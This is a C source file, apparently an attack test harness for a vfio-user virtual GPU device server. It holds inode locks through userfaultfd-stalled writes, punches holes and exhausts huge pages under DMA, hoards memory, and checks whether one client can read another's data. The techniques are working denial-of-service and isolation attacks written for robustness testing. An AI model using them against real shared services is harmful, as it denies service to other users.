/* SPDX-License-Identifier: MIT */
/*
 * Attacks on the files that a client shares with its VF's process: the file of BAR 0, which the
 * client gets, and files for DMA, which the client gives. Writing to a file, and punching holes
 * into it, takes the lock of its inode; whoever writes from a page that never comes keeps the lock.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/falloc.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "guest.h"
#include "vfio/device.h"
#include "vfio/user_proto.h"
#include "vgpu/clock.h"
#include "vgpu/descriptor.h"
#include "vgpu/local_socket.h"

#define PAGE 4096u
#define HUGE (2u << 20)
#define FILLED (64u << 20)
#define HOARD 64u
#define MANY 64
#define GIVEN_BACK (5 * VGPU_SEC)

void attack_give_up(const char *why)
{
	fprintf(stderr, "attack: %s: %s\n", why, strerror(errno));
	exit(3);
}

static void nap(void)
{
	struct timespec t = {0, (long)VGPU_MSEC};

	nanosleep(&t, NULL);
}

/* The descriptor of BAR 0's file, which becomes the caller's; -1: the connection is gone, or there
 * is no file. */
static int bar0_file(struct vfio_device *d)
{
	struct {
		struct vfio_user_header header;
		struct vfio_user_region_info info;
		struct vfio_user_sparse_mmap sparse;
	} m = {.header = {.command = VFIO_USER_GET_REGION_INFO,
			  .size = sizeof(m.header) + sizeof(m.info)},
	       .info = {.argsz = sizeof(m.info) + sizeof(m.sparse), .index = VFIO_USER_BAR0}};
	struct iovec part = {&m, sizeof(m.header) + sizeof(m.info)};
	struct vgpu_received got;
	int fd = -1;

	if (vgpu_socket_send(vfio_fd(d), &part, 1, NULL, 0, 0) < 0 ||
	    vgpu_socket_receive(vfio_fd(d), &m, sizeof(m), 0, &got) <= 0)
		return -1;
	if (got.n_fds > 0)
		fd = vgpu_take(&got.fds[0]);
	vgpu_received_drop(&got);
	return fd;
}

/* A page that is never there: the kernel waits for us when it reads from it. *UFFD tells of that.
 */
static void *never_page(int *uffd)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register range = {.mode = UFFDIO_REGISTER_MODE_MISSING};
	void *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	*uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	range.range.start = (uintptr_t)page;
	range.range.len = PAGE;
	if (*uffd < 0 || page == MAP_FAILED || ioctl(*uffd, UFFDIO_API, &api) < 0 ||
	    ioctl(*uffd, UFFDIO_REGISTER, &range) < 0)
		attack_give_up("userfaultfd");
	return page;
}

struct endless_write {
	int fd;
	void *page;
};

static void *write_for_ever(void *arg)
{
	const struct endless_write *w = arg;

	if (pwrite(w->fd, w->page, PAGE, 0) < 0)
		perror("attack: pwrite");
	return NULL;
}

/* Takes the lock of the inode of FD, and keeps it while this process lives. */
static void lock_inode(int fd)
{
	struct endless_write *w = malloc(sizeof(*w));
	struct uffd_msg fault;
	pthread_t thread;
	int uffd;

	if (!w)
		attack_give_up("memory");
	w->fd = fd;
	w->page = never_page(&uffd);
	if (pthread_create(&thread, NULL, write_for_ever, w) != 0 ||
	    read(uffd, &fault, sizeof(fault)) != sizeof(fault))
		attack_give_up("userfaultfd");
}

void attack_holes(struct vfio_device *d)
{
	size_t size, i;
	void *p;

	if (vfio_map(d, VFIO_REGION_BAR0, &p, &size) < 0)
		return;
	while (attack_goes_on() && vfio_check(d) == 0) {
		for (i = 0; i < size; i += PAGE)
			((volatile char *)p)[i] = 1;
		madvise(p, size, MADV_REMOVE);
	}
}

/* Keeps the lock of BAR 0's file, also when another client has the VF. */
void attack_window(struct vfio_device *d)
{
	static bool locked;
	size_t size;
	void *p;
	int fd;

	if (!locked) {
		fd = bar0_file(d);
		if (fd < 0)
			return;
		lock_inode(fd);
		locked = true;
	}
	/* An access of BAR 0 that is a message takes the lock, in the VF's process. */
	if (vfio_map(d, VFIO_REGION_BAR0, &p, &size) == 0) {
		static const uint64_t mark = 1;

		attack_goes_on();
		vfio_write(d, VFIO_REGION_BAR0, 0, &mark, sizeof(mark));
		vfio_check(d);
	}
}

void attack_dma_out(struct guest *g, uint64_t bytes)
{
	struct softgpu_packet out = {.opcode = SOFTGPU_DMA_OUT};
	uint64_t offset, size, fence;
	unsigned i;

	guest_memory(g, &offset, &size);
	out.arg[0] = offset;
	out.arg[1] = ATTACK_IOVA;
	out.arg[2] = bytes < size ? bytes : size;
	do {
		for (i = 0; i < 4; i++)
			guest_put(g, &out);
		fence = guest_put_fence(g);
		attack_rounds++;
	} while (guest_ring(g) == 0 && guest_wait(g, fence, VGPU_SEC) == 0 && attack_goes_on());
}

static int memory_file(unsigned flags, uint64_t size)
{
	int fd = memfd_create("attack", MFD_CLOEXEC | MFD_ALLOW_SEALING | flags);

	if (fd < 0 || ftruncate(fd, (off_t)size) < 0)
		attack_give_up("memfd");
	return fd;
}

static bool punch(int fd, uint64_t size)
{
	return fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, (off_t)size) == 0;
}

/* DMA goes to a file whose lock is kept. */
void attack_locked(struct guest *g)
{
	static int fd = -1;

	if (fd < 0) {
		fd = memory_file(0, FILLED);
		lock_inode(fd);
	}
	if (guest_map_dma(g, fd, ATTACK_IOVA, FILLED) == 0)
		attack_dma_out(g, FILLED);
}

static void *fill_and_empty(void *arg)
{
	int fd = *(int *)arg;

	while (vgpu_now() < attack_until)
		if (fallocate(fd, 0, 0, FILLED) < 0 || !punch(fd, FILLED))
			attack_give_up("fallocate");
	return NULL;
}

/* DMA goes to a file that is filled and emptied meanwhile, without an end. */
void attack_filled(struct guest *g)
{
	static int fd = -1;
	pthread_t thread;

	if (fd < 0) {
		fd = memory_file(0, FILLED);
		if (pthread_create(&thread, NULL, fill_and_empty, &fd) != 0)
			attack_give_up("thread");
	}
	if (guest_map_dma(g, fd, ATTACK_IOVA, FILLED) == 0)
		attack_dma_out(g, FILLED);
}

/* DMA goes to a file of huge pages that had its page when it was mapped, and has none any more, and
 * there is none to be had. */
void attack_huge(struct guest *g)
{
	int fd = memory_file(MFD_HUGETLB, HUGE), rest = memory_file(MFD_HUGETLB, MANY * HUGE), n;

	if (fallocate(fd, 0, 0, HUGE) < 0 || fcntl(fd, F_ADD_SEALS, F_SEAL_SHRINK) < 0)
		attack_give_up("huge pages");
	if (guest_map_dma(g, fd, ATTACK_IOVA, HUGE) == 0 && punch(fd, HUGE)) {
		for (n = 0; n < MANY && fallocate(rest, 0, n * (off_t)HUGE, HUGE) == 0; n++)
			;
		attack_dma_out(g, HUGE);
	}
	close(rest);
	close(fd);
}

/* DMA goes to a file without pages, of which each is filled, and then left. */
void attack_sparse(struct guest *g)
{
	int fd = memory_file(0, FILLED);

	if (guest_map_dma(g, fd, ATTACK_IOVA, FILLED) == 0)
		attack_dma_out(g, FILLED);
	close(fd);
}

static uint64_t bytes_of(int fd)
{
	struct stat st;

	return fstat(fd, &st) == 0 ? (uint64_t)st.st_blocks * 512 : 0;
}

/* Keeps the files of BAR 0 of former connections, which it has filled. They hold memory until the
 * next client is let in, and no longer: it is waited for, and said if it does not come. */
void attack_hoard(struct vfio_device *d)
{
	static int kept[HOARD];
	static unsigned n;
	vgpu_nsec until = vgpu_now() + GIVEN_BACK;
	uint64_t bytes = UINT64_MAX;
	struct stat st;
	unsigned i;
	int fd = bar0_file(d);

	if (fd < 0)
		return;
	while (bytes > 0 && vgpu_now() < until) {
		for (bytes = 0, i = 0; i < n; i++)
			bytes += bytes_of(kept[i]);
		nap();
	}
	if (bytes > 0) {
		printf("hoard: %llu bytes are held by files of %u former connections\n",
		       (unsigned long long)bytes, n);
		exit(4);
	}
	if (n == HOARD)
		close(kept[--n]);
	if (fstat(fd, &st) == 0 && fallocate(fd, 0, 0, st.st_size) == 0)
		attack_goes_on();
	kept[n++] = fd;
}

/* Each client looks whether its memory is empty, and whether what it has kept of its predecessor's
 * shows what it writes; then it leaves its mark on each page. */
void attack_successions(struct vfio_device *d)
{
	static const uint8_t empty[PAGE];
	static uint8_t *kept;
	static size_t size;
	const char *most = getenv("VGPU_SUCCESSIONS");
	uint64_t mark = attack_rounds + 1, seen = 0;
	int fd = bar0_file(d);
	struct stat st;
	uint8_t *p;
	size_t at;

	if (fd < 0)
		return;
	p = fstat(fd, &st) == 0
		    ? mmap(NULL, (size_t)st.st_size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0)
		    : MAP_FAILED;
	close(fd);
	if (p == MAP_FAILED)
		return;
	for (at = 0; at < (size_t)st.st_size; at += PAGE) {
		seen += memcmp(p + at, empty, PAGE) != 0;
		memcpy(p + at, &mark, sizeof(mark));
	}
	for (at = 0; at < size; at += PAGE)
		seen += memcmp(kept + at, &mark, sizeof(mark)) == 0;
	if (kept)
		munmap(kept, size);
	kept = p;
	size = (size_t)st.st_size;
	if (seen > 0) {
		printf("successions: %llu pages of another client\n", (unsigned long long)seen);
		exit(4);
	}
	attack_goes_on();
	if (most && attack_rounds >= strtoull(most, NULL, 10))
		attack_until = 0;
}
